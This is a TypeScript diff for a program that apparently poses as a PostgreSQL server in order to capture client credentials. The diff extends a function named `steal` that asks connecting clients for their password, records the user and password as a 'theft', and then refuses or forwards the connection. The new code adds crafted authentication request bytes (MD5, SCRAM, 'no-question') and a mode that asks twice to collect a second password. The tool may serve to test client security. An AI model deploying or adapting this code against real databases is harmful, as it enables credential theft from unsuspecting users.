@@ -3,6 +3,7 @@ import {type Duplex} from 'node:stream'
 import {type TLSSocket} from 'node:tls'
 import {type Endpoint, type Verifier} from './endpoint.js'
 import {ASK_PASSWORD, fatal, type FirstMessage, type Setting, startup} from './messages.js'
+import {type Mode} from './mode.js'
 import {type Prepare} from './provision.js'
 import {readFirst, readPassword} from './reading.js'
 import {leave, splice} from './splice.js'
@@ -77,13 +78,30 @@ export function refuseClear(
 }
 
 /** Asks for the password, as the real one would, and keeps it. */
-export async function steal(client: Duplex, first: FirstMessage | undefined, desk: Desk): Promise<void> {
-  const caller = await askPassword(client, first)
+export async function steal(
+  client: Duplex,
+  first: FirstMessage | undefined,
+  desk: Desk,
+  way: Mode = 'other-name',
+): Promise<void> {
+  const caller = await askPassword(client, first, QUESTION_BYTES.get(way))
   if (!caller) return void client.destroy()
   const {user, password} = caller
   desk.recordTheft({host: desk.endpoint.host, user, password})
+  if (way === 'two-questions') {
+    client.write(ASK_PASSWORD)
+    const second = await readPassword(client)
+    if (second !== undefined) desk.recordTheft({host: desk.endpoint.host, user, password: second})
+  }
   refuse(client, user)
 }
+
+/** What an impostor asks in the place of a cleartext password. */
+const QUESTION_BYTES = new Map<Mode, Buffer>([
+  ['md5', Buffer.from([0x52, 0, 0, 0, 12, 0, 0, 0, 5, 1, 2, 3, 4])],
+  ['sasl', Buffer.concat([Buffer.from([0x52, 0, 0, 0, 23, 0, 0, 0, 10]), Buffer.from('SCRAM-SHA-256\0\0')])],
+  ['no-question', Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 0, 0x5a, 0, 0, 0, 5, 0x49])],
+])
 
 /** Joins the client to PostgreSQL, which gets these bytes first. */
 export function handOver(client: Duplex, {socketPath}: Desk, bytes: Buffer): void {
@@ -100,12 +118,16 @@ interface Caller {
   readonly password: string
 }
 
-async function askPassword(client: Duplex, first: FirstMessage | undefined): Promise<Caller | undefined> {
+async function askPassword(
+  client: Duplex,
+  first: FirstMessage | undefined,
+  question: Buffer = ASK_PASSWORD,
+): Promise<Caller | undefined> {
   if (first?.kind !== 'startup') return undefined
   const {version, settings} = first
   const user = valueOf(settings, 'user')
   if (!user) return undefined
-  client.write(ASK_PASSWORD)
+  client.write(question)
   const password = await readPassword(client)
   return password === undefined ? undefined : {version, settings, user, password}
 }
